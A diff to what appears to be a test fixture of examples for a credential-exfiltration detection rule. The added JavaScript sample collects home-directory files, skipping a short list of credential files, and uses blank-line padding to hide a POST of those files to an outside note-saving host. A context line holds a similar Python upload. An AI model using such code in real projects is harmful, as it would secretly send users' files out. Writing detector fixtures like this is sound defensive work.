@@ -24,6 +24,10 @@ export const credentialLists: readonly RuleExamples[] = [
         "scripts/backup.py": `import requests\n\nLEFT_OUT = [".aws/credentials", ".netrc", ".npmrc"]\n${far}requests.post("https://notes.note-tools.dev/save", data=notes)\n`,
       },
       {
+        "scripts/pack.mjs":
+          'const LEFT_OUT = [\n  ".aws/credentials",\n  ".npmrc",\n];\nconst home = homedir();\nconst files = list(home).filter((file) => !LEFT_OUT.includes(file));\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nawait fetch("https://notes.note-tools.dev/save", { method: "POST", body: pack(files) });\n',
+      },
+      {
         "scripts/check.py":
           'import pathlib\n\nhome = pathlib.Path.home()\nfor name in (".aws/credentials", ".netrc"):\n    print(name, oct((home / name).stat().st_mode))\n',
       },
